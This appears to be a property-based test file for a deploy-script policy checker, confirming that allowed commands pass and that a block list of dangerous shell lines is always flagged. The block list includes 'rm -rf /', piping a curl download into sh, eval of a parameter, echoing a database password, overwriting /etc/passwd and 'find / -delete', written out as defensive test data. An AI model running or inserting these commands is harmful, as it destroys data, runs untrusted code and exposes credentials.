import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { beforeAll, expect, it, vi } from 'vitest';
import type { DeclaredScript } from '@/lib/domain/script-policy';
import { judgeScriptText, loadShellParser } from './parse-shell';

beforeAll(loadShellParser);
// A second in all by itself, on machines that do other things besides.
vi.setConfig({ testTimeout: 30_000 });
const SEED = { seed: 20261123 };
/** Half characters and signs that nobody sees among them. */
const anyText = fc
  .array(fc.oneof(fc.integer({ min: 0, max: 0x7f }), fc.integer({ min: 0, max: 0xffff })), { maxLength: 6 })
  .map((codes) => String.fromCharCode(...codes));
const DECLARED: DeclaredScript = { parameters: ['REF'], variables: ['DB_PASSWORD'], folders: ['/srv/replyx/backups'] };

const GOOD = [
  'git -C /srv/replyx checkout --detach "$REF"',
  'pg_dump -Fc replyx | gzip > /srv/replyx/backups/now.gz',
  'rm -f /srv/replyx/backups/old.gz',
  'if grep -q x f; then\n  echo there\nelse\n  echo gone\nfi',
  'take_backup() {\n  ls\n}',
  'while read -r line; do\n  echo "$line"\ndone < /srv/list',
  'sudo -n systemctl restart nginx',
  'head="$(git rev-parse HEAD)"',
  '# a comment that says why',
];
const BAD = [
  'rm -rf /',
  'rm -rf "$REF"',
  'eval "$REF"',
  'curl -fsS https://x.example/y | sh',
  'sleep 9 &',
  'pkill -f uvicorn',
  'git checkout $REF',
  'git checkout "$(cat x)"',
  'git checkout main || true',
  'sudo systemctl restart nginx',
  'sh -c id',
  'echo "$DB_PASSWORD"',
  'set +e',
  'cp x /etc/passwd',
  'echo x > /etc/passwd',
  'nohup ls',
  'echo "$NOBODY"',
  "trap 'id' EXIT",
  '. /etc/profile',
  'PATH=/tmp ls',
  'psql -c "drop table t"',
  'find / -delete',
];
/** Where a command may stand so that bash would run it. */
const AROUND: ((line: string) => string)[] = [
  (line) => line,
  (line) => `{\n${line}\n}`,
  (line) => `(\n${line}\n)`,
  (line) => `if test -e x; then\n${line}\nfi`,
  (line) => `if test -e x; then\nls\nelse\n${line}\nfi`,
  (line) => `for n in 1 2; do\n${line}\ndone`,
  (line) => `while test -e x; do\n${line}\ndone`,
  (line) => `case "$REF" in\n*)\n${line}\n;;\nesac`,
  (line) => `do_it() {\n${line}\n}\ndo_it`,
  (line) => `ls; ${line}`,
  (line) => `${line} # a comment`,
  (line) => `  \t${line}`,
];
const oneOf = <T>(list: readonly T[]) => fc.constantFrom(...list);
const scripts = fc.array(oneOf(GOOD), { minLength: 1, maxLength: 3 });

it('good lines together, and inside of each other, are a good script', () => {
  fc.assert(
    fc.property(scripts, oneOf(AROUND), (lines, around) => {
      const text = lines
        .filter((line) => !/^#|\(\) \{/.test(line))
        .map(around)
        .join('\n');
      expect(judgeScriptText(`ls\n${text}`, DECLARED), text).toEqual([]);
    }),
    { ...SEED, numRuns: 60 },
  );
});

it('one bad line makes it a bad one, wherever it stands', () => {
  fc.assert(
    fc.property(scripts, oneOf(BAD), fc.array(oneOf(AROUND), { maxLength: 3 }), fc.nat(6), (lines, bad, around, at) => {
      const line = around.reduce((inner, wrap) => wrap(inner), bad);
      const text = [...lines.slice(0, at), line, ...lines.slice(at)].join('\n');
      expect(judgeScriptText(text, DECLARED).length, text).toBeGreaterThan(0);
    }),
    { ...SEED, numRuns: 100 },
  );
});

const PIECES = [
  ...GOOD,
  ...BAD,
  '"',
  "'",
  '$',
  '${',
  '$(',
  '`',
  '(',
  ')',
  '{',
  '}',
  '<<A',
  '\\',
  '\n',
  ';',
  '&&',
  'if',
  'fi',
  'do',
  'case',
  '[[',
  '$((',
  '#',
  '\0',
  '\u202e',
  '<(',
  "$'",
];

it('any text gets its refusals, each with a line, a reason and a way out, and never an error', () => {
  const soup = fc.array(fc.oneof(oneOf(PIECES), anyText), { maxLength: 10 });
  fc.assert(
    fc.property(soup, oneOf([' ', '\n', '']), (pieces, between) => {
      for (const { line, why, remedy } of judgeScriptText(pieces.join(between), DECLARED)) {
        expect(line).toBeGreaterThan(0);
        expect(why.length).toBeGreaterThan(3);
        expect(remedy).toMatch(/\.$/);
      }
    }),
    { ...SEED, numRuns: 100 },
  );
});

it('what is accepted is a script to bash as well', () => {
  const soup = fc.array(fc.oneof({ weight: 4, arbitrary: oneOf(GOOD) }, { weight: 1, arbitrary: oneOf(PIECES) }), {
    maxLength: 8,
  });
  fc.assert(
    fc.property(soup, (pieces) => {
      const text = pieces.join('\n');
      fc.pre(judgeScriptText(text, DECLARED).length === 0);
      expect(() => execFileSync('bash', ['--norc', '-n'], { input: text, stdio: 'pipe' }), text).not.toThrow();
    }),
    { ...SEED, numRuns: 30 },
  );
});
